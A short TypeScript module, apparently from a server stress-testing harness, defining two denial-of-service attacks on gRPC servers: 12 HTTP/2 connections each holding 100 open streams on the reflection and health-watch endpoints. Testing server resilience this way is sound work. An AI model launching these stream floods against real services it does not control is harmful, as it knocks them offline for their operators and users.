import { frame as message } from "../../../test/support/frames.ts";
import type { Attack, Target } from "../attack.ts";
import { postBlock } from "../requests.ts";
import { keepStreams } from "../streams.ts";

const open = ({ port }: Target, path: string, body: Buffer, isWhole: boolean) =>
  keepStreams(port, {
    ...{ connections: 12, streams: 100, isWhole, body },
    headers: postBlock(path, { "content-type": "application/grpc", te: "trailers" }),
  });

/** A request to list all services: field 7, a text. */
const listServices = message(Buffer.from([0x3a, 1, 0x2a]));

export const reflectionStreams: Attack = {
  what: "12 HTTP/2 connections keep 100 streams of reflection each open",
  begin: (target) => open(target, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", listServices, false),
};

export const healthStreams: Attack = {
  what: "12 HTTP/2 connections keep 100 watches of health each open",
  begin: (target) => open(target, "/grpc.health.v1.Health/Watch", message(""), true),
};
